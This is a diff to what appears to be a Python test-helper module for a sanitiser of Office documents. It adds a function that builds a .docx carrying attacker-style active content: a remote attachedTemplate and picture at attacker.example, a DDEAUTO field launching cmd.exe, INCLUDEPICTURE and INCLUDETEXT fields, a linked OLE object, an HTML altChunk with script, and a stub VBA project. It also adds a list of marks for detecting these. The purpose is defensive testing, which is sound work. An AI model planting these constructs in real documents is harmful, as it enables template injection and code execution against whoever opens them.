@@ -250,3 +250,100 @@ def many_rows_return(data: bytes, rows: int) -> bytes:
     body = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>r%d</t></is></c></row>' % (r, r, r)
                     for r in range(100, 100 + rows))
     return with_sheet(data, lambda x: x.replace(b"</sheetData>", body + b"</sheetData>"))
+
+
+# Templates (issue 18, item 3).
+W_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def add_paragraph(data: bytes, text: str, part: str = "word/document.xml") -> bytes:
+    """A template with one more paragraph (``text``, e.g. a tag) before its section settings."""
+    from xml.sax.saxutils import escape
+
+    members = parts(data)
+    xml = members[part]
+    para = ('<w:p><w:r><w:t xml:space="preserve">' + escape(text) + "</w:t></w:r></w:p>").encode()
+    cut = xml.rfind(b"<w:sectPr")
+    members[part] = xml[:cut] + para + xml[cut:]
+    return rezip(members)
+
+
+def _add_rel(members: dict[str, bytes], rels: str, rid: str, rtype: str, target: str,
+             external: bool = False) -> None:
+    mode = b' TargetMode="External"' if external else b""
+    rel = (b'<Relationship Id="' + rid.encode() + b'" Type="' + rtype.encode() + b'" Target="'
+           + target.encode() + b'"' + mode + b"/>")
+    if rels in members:
+        members[rels] = members[rels].replace(b"</Relationships>", rel + b"</Relationships>")
+    else:
+        members[rels] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
+                         b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                         + rel + b"</Relationships>")
+
+
+def active_template(data: bytes) -> bytes:
+    """A template carrying every kind of active content an attacker would plant:
+    a remote attachedTemplate, DDEAUTO (complex field), INCLUDEPICTURE and
+    INCLUDETEXT (simple fields), a remote picture, a linked OLE object, an
+    altChunk HTML part and a vbaProject.bin."""
+    members = parts(data)
+    r = REL.decode()
+    _add_rel(members, "word/_rels/settings.xml.rels", "rIdT", r + "/attachedTemplate",
+             "http://attacker.example/t.dotm", external=True)
+    members["word/settings.xml"] = members["word/settings.xml"].replace(
+        b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
+    assert b"attachedTemplate" in members["word/settings.xml"]
+    doc_rels = "word/_rels/document.xml.rels"
+    _add_rel(members, doc_rels, "rIdImg", r + "/image", "http://attacker.example/p.png",
+             external=True)
+    _add_rel(members, doc_rels, "rIdOle", r + "/oleObject", "file:///C:/evil.xlsx", external=True)
+    _add_rel(members, doc_rels, "rIdChunk", r + "/aFChunk", "chunk.html")
+    _add_rel(members, doc_rels, "rIdVba", "http://schemas.microsoft.com/office/2006/relationships/"
+             "vbaProject", "vbaProject.bin")
+    members["word/chunk.html"] = b"<html><body><script>alert(1)</script>evil</body></html>"
+    members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\0" * 60
+    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
+        b"</Types>", b'<Default Extension="html" ContentType="text/html"/>'
+                     b'<Override PartName="/word/vbaProject.bin" '
+                     b'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
+    body = (
+        # DDEAUTO as a complex field, split over runs as Word writes it.
+        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
+        b' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
+        b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>dde-result</w:t></w:r>'
+        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        b'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://attacker.example/x.png&quot; '
+        b'\\d "><w:r><w:t>pic</w:t></w:r></w:fldSimple></w:p>'
+        b'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;\\\\\\\\evil\\\\share\\\\a.docx&quot;">'
+        b"<w:r><w:t>inc</w:t></w:r></w:fldSimple></w:p>"
+        b'<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
+        b'drawingml/2006/wordprocessingDrawing"><wp:extent cx="10" cy="10"/><wp:docPr id="99" '
+        b'name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
+        b'<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
+        b'<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
+        b'<pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
+        b'<a:blip r:link="rIdImg"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData>'
+        b"</a:graphic></wp:inline></w:drawing></w:r></w:p>"
+        b'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
+        b'Type="Link" ProgID="Excel.Sheet.12" r:id="rIdOle" UpdateMode="Always"/></w:object>'
+        b"</w:r></w:p>"
+        b'<w:altChunk r:id="rIdChunk"/>')
+    xml = members["word/document.xml"]
+    cut = xml.rfind(b"<w:sectPr")
+    members["word/document.xml"] = xml[:cut] + body + xml[cut:]
+    return rezip(members)
+
+
+ACTIVE_MARKS = (b"attachedTemplate", b"DDEAUTO", b"INCLUDEPICTURE", b"INCLUDETEXT", b"altChunk",
+                b"aFChunk", b"vbaProject", b"attacker.example", b"evil", b"oleObject")
+
+
+def active_marks(docx: bytes) -> list[str]:
+    """Which marks of active content a .docx still holds (in any part, names included)."""
+    found = []
+    for name, content in parts(docx).items():
+        for mark in ACTIVE_MARKS:
+            if mark in content or mark.decode() in name:
+                found.append(f"{name}: {mark.decode()}")
+    return found
